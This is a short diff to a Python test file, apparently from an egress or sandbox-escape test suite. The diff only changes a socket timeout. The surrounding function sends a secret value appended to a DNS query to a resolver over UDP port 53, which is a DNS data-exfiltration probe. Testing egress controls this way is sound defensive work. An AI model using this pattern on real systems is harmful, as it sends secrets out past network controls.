@@ -6,7 +6,7 @@
 # needs: resolver
 import socket
 
-from attack import RESOLVER, SECRET, attempt
+from attack import RESOLVER, SECRET, attempt, patience
 
 
 def labels(*names):
@@ -20,6 +20,6 @@ def question(*names, records=0):
 @attempt
 def ask():
     out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
-    out.settimeout(3)
+    out.settimeout(patience(3))
     out.sendto(question("api", "allowed", "example") + SECRET.encode(), (RESOLVER, 53))
     return len(out.recv(512)) > 12
